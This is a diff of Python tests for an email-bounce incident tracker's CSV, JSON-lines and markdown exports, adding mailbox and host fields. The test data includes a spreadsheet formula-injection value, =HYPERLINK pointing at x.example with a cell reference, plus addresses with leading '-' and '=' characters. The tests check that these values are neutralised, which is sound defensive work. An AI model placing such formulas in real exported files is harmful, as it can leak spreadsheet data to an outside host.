@@ -63,7 +63,7 @@ def test_hostile_cells_take_no_square():
 
 def test_csv_is_one_quoted_row_an_incident(store):
     store.write_now(opening(findings=(replace(FINDING, reply_text=HOSTILE),)))
-    opened(store, recipient="-ben@example.com")
+    opened(store, recipient="-ben@example.com", mailbox="=ana@example.com", host="mx.example")
     store.write_now(lambda db: incidents.resolve(db, 2, version=None, actor="U1", helped="wait", at=NOON))
     text = written(store, Form.CSV)
     assert written.count == 2
@@ -73,21 +73,19 @@ def test_csv_is_one_quoted_row_an_incident(store):
         *("1", "2026-11-24T12:00:00+00:00", "new", "", "C1", "U1", "", "", "1", "mailbox-unknown"),
         *("550-user-unknown", "domain-typo", "postfix", "550", "5.1.1"),
         '\'=HYPERLINK("http://x.example/"&A1),\n|`*bold*` <b>x</b>',
-        *("ana@example.com", "", ""),
+        *("ana@example.com", "", "", "", ""),
     ]
-    assert (second[2], second[3], second[16], second[17]) == (
-        "resolved",
-        "2026-11-24T12:00:00+00:00",
-        "'-ben@example.com",
-        "wait",
-    )
+    assert (second[2], second[3]) == ("resolved", "2026-11-24T12:00:00+00:00")
+    assert second[16:] == ["'-ben@example.com", "wait", "", "'=ana@example.com", "mx.example"]
     assert [line[:1] + line[-1:] for line in text.split("\r\n")] == ['""', '""', '""', ""]
 
 
 def test_json_lines_hold_everything(store):
-    opened(store)
+    opened(store, mailbox="bob@example.com", host="mx.example")
     [line] = written(store, Form.JSONL).splitlines()
-    assert json.loads(line)["findings"][0]["reply_text"] == FINDING.reply_text
+    told = json.loads(line)
+    assert told["findings"][0]["reply_text"] == FINDING.reply_text
+    assert (told["mailbox"], told["host"]) == ("bob@example.com", "mx.example")
 
 
 def test_a_report_counts_first_and_formats_nothing_of_a_paste(store):
@@ -118,7 +116,7 @@ def test_a_report_counts_first_and_formats_nothing_of_a_paste(store):
         "",
         "## All of them",
         "",
-        r"| number | opened | state | owner | error | code | recipient | the server's words |",
+        r"| number | opened | state | owner | error | code | address | the server's words |",
         "| ---: | --- | --- | --- | --- | --- | --- | --- |",
         r"| 1 | 2026\-11\-24 12:00 | new | nobody | words that no entry knows | 550 5\.1\.1 | ana@example\.com |"
         r" =HYPERLINK\(\"http://x\.example/\"\&A1\), \|\`\*bold\*\` \<b\>x\</b\> |".replace('\\"', '"'),
